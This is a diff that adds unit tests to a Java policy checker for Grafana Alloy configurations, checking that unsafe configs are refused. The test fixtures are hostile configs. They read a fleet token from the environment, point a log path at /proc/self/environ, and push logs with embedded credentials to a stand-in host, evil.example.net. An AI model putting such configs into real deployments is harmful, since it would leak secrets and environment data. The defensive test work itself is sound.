@@ -52,6 +52,67 @@ class AlloyPolicyCheckerTest {
   }
 
   @Test
+  void aRelabelReplacementBuiltFromCaptureGroupsIsNotJudgedAsAHost() {
+    assertThat(
+            refusals(
+                """
+                discovery.relabel "pods" {
+                  targets = []
+                  rule {
+                    source_labels = ["__address__", "__meta_kubernetes_pod_annotation_prometheus_io_port"]
+                    regex         = "([^:]+)(?::\\\\d+)?;(\\\\d+)"
+                    replacement   = "$1:$2"
+                    target_label  = "__address__"
+                  }
+                }
+                """))
+        .isEmpty();
+  }
+
+  @Test
+  void sysOnlyAsSysEnvAndAComputedTargetLabelWithAReplacementAreRefused() {
+    assertThat(
+            refusals(
+                """
+                local.file_match "a" {
+                  path_targets = [{"__path__" = "/var/log/x.log", "k" = sys["env"]("ALLOY_FLEET_TOKEN")}]
+                }
+                discovery.relabel "b" {
+                  targets = []
+                  rule {
+                    target_label = "__pa" + "th__"
+                    replacement  = "/proc/self/environ"
+                  }
+                }
+                """))
+        .hasSize(2)
+        .anySatisfy(r -> assertThat(r).startsWith("2:").contains("sys may only be used as sys.env"))
+        .anySatisfy(r -> assertThat(r).startsWith("7:").contains("target_label must be a literal"));
+  }
+
+  @Test
+  void aRefusedEndpointIsQuotedWithoutItsCredentials() {
+    assertThat(Hosts.withoutUserinfo("https://user:s3cret@evil.example.net/push"))
+        .isEqualTo("https://***@evil.example.net/push");
+    assertThat(Hosts.withoutUserinfo("https://otlp.example.com/a@b"))
+        .isEqualTo("https://otlp.example.com/a@b");
+    assertThat(Hosts.withoutUserinfo("otlp.example.com:4317")).isEqualTo("otlp.example.com:4317");
+    assertThat(
+            refusals(
+                """
+                loki.write "a" {
+                  endpoint {
+                    url = "https://user:s3cret@evil.example.net/loki/api/v1/push"
+                  }
+                }
+                """))
+        .singleElement()
+        .asString()
+        .contains("https://***@evil.example.net")
+        .doesNotContain("s3cret");
+  }
+
+  @Test
   void withoutAllowedHostsTheClusterItselfIsAllowedAndNothingOutside() {
     AlloyPolicy implicit =
         new AlloyPolicy(
@@ -155,7 +216,8 @@ class AlloyPolicyCheckerTest {
             "2:3: __path__ \"/var/log/../../proc/1/environ\" is not a path the policy lets team"
                 + " Alloy read",
             "10:7: key_file must be a literal path: the policy lets team Alloy read only"
-                + " /var/log/**, /etc/alloy/**, /var/lib/alloy/**, /tmp/**, /etc/ssl/** by the"
+                + " /var/log/**, /run/log/journal/**, /etc/alloy/**, /var/lib/alloy/**, /tmp/**,"
+                + " /etc/ssl/**, /var/run/secrets/kubernetes.io/serviceaccount/ca.crt by the"
                 + " default policy (policy.alloy.readablePaths)",
             "18:5: replacement \"/sys/kernel/x\" is not a path the policy lets team Alloy read");
   }
